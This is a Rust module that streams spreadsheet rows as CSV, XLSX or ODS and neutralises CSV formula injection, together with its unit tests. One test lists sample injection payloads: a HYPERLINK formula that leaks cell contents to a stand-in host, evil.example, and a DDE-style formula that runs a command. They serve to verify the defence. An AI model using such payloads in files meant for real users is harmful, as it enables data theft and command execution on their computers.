//! Writing rows as CSV, XLSX or ODS into a byte sink, one row at a time. XLSX and ODS are zip
//! files; the zip is written in streaming mode (no seeking), so nothing is held back.

use std::io::{self, Write};

use zip::CompressionMethod;
use zip::write::{SimpleFileOptions, StreamWriter, ZipWriter};

#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(i64),
    Empty,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
    Ods,
}

impl Format {
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Format::Ods => "application/vnd.oasis.opendocument.spreadsheet",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
            Format::Ods => "ods",
        }
    }
}

/// A CSV text cell that a spreadsheet program would read as a formula (`=`, `+`, `-`, `@`, a
/// tab or a carriage return first) is written with a leading `'`, which makes it plain text
/// (API.md "Second edition — Input"; OWASP's advice on CSV injection). XLSX and ODS cells are
/// written as typed text cells, which are never evaluated.
pub fn neutralised(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{s}")),
        _ => std::borrow::Cow::Borrowed(s),
    }
}

/// XML text: escaped, without the control characters XML 1.0 forbids.
fn xml(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if (c as u32) < 0x20 => {}
            c => out.push(c),
        }
    }
    out
}

/// Spreadsheet column name: 0 → A, 25 → Z, 26 → AA.
fn column_name(mut index: usize) -> String {
    let mut name = Vec::new();
    loop {
        name.push(b'A' + (index % 26) as u8);
        if index < 26 {
            break;
        }
        index = index / 26 - 1;
    }
    name.reverse();
    String::from_utf8(name).expect("ASCII letters")
}

pub enum SheetWriter<W: Write> {
    Csv(csv::Writer<W>),
    Xlsx { zip: ZipWriter<StreamWriter<W>>, row: usize },
    Ods { zip: ZipWriter<StreamWriter<W>> },
}

fn zip_err(e: zip::result::ZipError) -> io::Error {
    io::Error::other(e)
}

const XLSX_CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
const XLSX_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
fn xlsx_workbook(sheet: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{}" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        xml(sheet)
    )
}
const XLSX_WORKBOOK_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
const ODS_MIMETYPE: &str = "application/vnd.oasis.opendocument.spreadsheet";
const ODS_MANIFEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;

impl<W: Write> SheetWriter<W> {
    /// A sheet named `sheet` (the records it holds, which the history import reads).
    pub fn new(format: Format, sheet: &str, sink: W) -> io::Result<Self> {
        match format {
            Format::Csv => {
                let mut sink = sink;
                // A byte-order mark, so that spreadsheet programs read the Chinese as UTF-8.
                sink.write_all("\u{feff}".as_bytes())?;
                Ok(SheetWriter::Csv(csv::Writer::from_writer(sink)))
            }
            Format::Xlsx => {
                let mut zip = ZipWriter::new_stream(sink);
                let small = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
                let workbook = xlsx_workbook(sheet);
                for (name, body) in [
                    ("[Content_Types].xml", XLSX_CONTENT_TYPES),
                    ("_rels/.rels", XLSX_RELS),
                    ("xl/workbook.xml", workbook.as_str()),
                    ("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS),
                ] {
                    zip.start_file(name, small).map_err(zip_err)?;
                    zip.write_all(body.as_bytes())?;
                }
                zip.start_file("xl/worksheets/sheet1.xml", small.large_file(true)).map_err(zip_err)?;
                zip.write_all(
                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#,
                )?;
                Ok(SheetWriter::Xlsx { zip, row: 0 })
            }
            Format::Ods => {
                let mut zip = ZipWriter::new_stream(sink);
                // ODF wants `mimetype` first and uncompressed.
                zip.start_file("mimetype", SimpleFileOptions::default().compression_method(CompressionMethod::Stored))
                    .map_err(zip_err)?;
                zip.write_all(ODS_MIMETYPE.as_bytes())?;
                let small = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
                zip.start_file("META-INF/manifest.xml", small).map_err(zip_err)?;
                zip.write_all(ODS_MANIFEST.as_bytes())?;
                zip.start_file("content.xml", small.large_file(true)).map_err(zip_err)?;
                zip.write_all(
                    format!(
                        r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="{}">"#,
                        xml(sheet)
                    )
                    .as_bytes(),
                )?;
                Ok(SheetWriter::Ods { zip })
            }
        }
    }

    pub fn row(&mut self, cells: &[Cell]) -> io::Result<()> {
        match self {
            SheetWriter::Csv(w) => {
                let record: Vec<String> = cells
                    .iter()
                    .map(|c| match c {
                        Cell::Text(s) => neutralised(s).into_owned(),
                        Cell::Number(n) => n.to_string(),
                        Cell::Empty => String::new(),
                    })
                    .collect();
                w.write_record(&record).map_err(io::Error::other)
            }
            SheetWriter::Xlsx { zip, row } => {
                *row += 1;
                let mut out = format!("<row r=\"{row}\">");
                for (i, cell) in cells.iter().enumerate() {
                    let at = format!("{}{row}", column_name(i));
                    match cell {
                        Cell::Text(s) => out.push_str(&format!(
                            "<c r=\"{at}\" t=\"inlineStr\"><is><t xml:space=\"preserve\">{}</t></is></c>",
                            xml(s)
                        )),
                        Cell::Number(n) => out.push_str(&format!("<c r=\"{at}\"><v>{n}</v></c>")),
                        Cell::Empty => {}
                    }
                }
                out.push_str("</row>");
                zip.write_all(out.as_bytes())
            }
            SheetWriter::Ods { zip } => {
                let mut out = String::from("<table:table-row>");
                for cell in cells {
                    match cell {
                        Cell::Text(s) => out.push_str(&format!(
                            "<table:table-cell office:value-type=\"string\"><text:p>{}</text:p></table:table-cell>",
                            xml(s)
                        )),
                        Cell::Number(n) => out.push_str(&format!(
                            "<table:table-cell office:value-type=\"float\" office:value=\"{n}\"><text:p>{n}</text:p></table:table-cell>"
                        )),
                        Cell::Empty => out.push_str("<table:table-cell/>"),
                    }
                }
                out.push_str("</table:table-row>");
                zip.write_all(out.as_bytes())
            }
        }
    }

    /// Closes the file and hands back the sink.
    pub fn finish(self) -> io::Result<W> {
        match self {
            SheetWriter::Csv(w) => w.into_inner().map_err(|e| io::Error::other(e.to_string())),
            SheetWriter::Xlsx { mut zip, .. } => {
                zip.write_all(b"</sheetData></worksheet>")?;
                Ok(zip.finish().map_err(zip_err)?.into_inner())
            }
            SheetWriter::Ods { mut zip } => {
                zip.write_all(b"</table:table></office:spreadsheet></office:body></office:document-content>")?;
                Ok(zip.finish().map_err(zip_err)?.into_inner())
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn column_names_and_escaping() {
        assert_eq!(
            (column_name(0), column_name(25), column_name(26), column_name(27)),
            ("A".into(), "Z".into(), "AA".into(), "AB".into())
        );
        assert_eq!(xml("a<b & \"c\"\u{1}"), "a&lt;b &amp; &quot;c&quot;");
    }

    #[test]
    fn formulas_reach_a_csv_as_text() {
        for (given, written) in [
            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'=HYPERLINK"),
            ("=1+cmd|' /C calc'!A0", "'=1+cmd"),
            ("+886 7 1234567", "'+886"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM"),
            ("\tTAB", "'\tTAB"),
            ("王小明", "王小明"),
            ("KH-115-000001", "KH-115-000001"),
        ] {
            assert!(neutralised(given).starts_with(written), "{given:?}");
        }
        let mut w = SheetWriter::new(Format::Csv, "cases", Vec::new()).unwrap();
        w.row(&[Cell::Text("=1+1".into()), Cell::Number(-5)]).unwrap();
        let text = String::from_utf8(w.finish().unwrap()).unwrap();
        assert!(text.contains("'=1+1,-5"), "numbers stay numbers: {text}");
    }

    #[test]
    fn each_format_writes_a_file() {
        for format in [Format::Csv, Format::Xlsx, Format::Ods] {
            let mut w = SheetWriter::new(format, "cases", Vec::new()).unwrap();
            w.row(&[Cell::Text("案號".into()), Cell::Number(1)]).unwrap();
            w.row(&[Cell::Empty, Cell::Text("<x>".into())]).unwrap();
            let bytes = w.finish().unwrap();
            assert!(!bytes.is_empty());
            if format != Format::Csv {
                assert_eq!(&bytes[..2], b"PK");
            }
        }
    }
}
